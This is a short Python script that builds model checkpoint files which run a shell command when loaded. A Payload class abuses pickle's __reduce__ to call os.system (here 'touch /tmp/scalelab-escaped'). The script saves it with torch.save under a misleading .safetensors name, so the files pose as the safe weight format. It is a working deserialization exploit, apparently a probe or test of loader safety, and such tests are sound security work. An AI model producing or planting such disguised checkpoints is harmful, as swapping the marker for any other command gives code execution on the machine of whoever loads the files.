"""Checkpoints that run a command when they are loaded as torch's own format is."""

import os

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/scalelab-escaped",)


for epoch in (1, 2):
    torch.save({"weights": Payload()}, f"out/epoch-{epoch:03d}.safetensors")
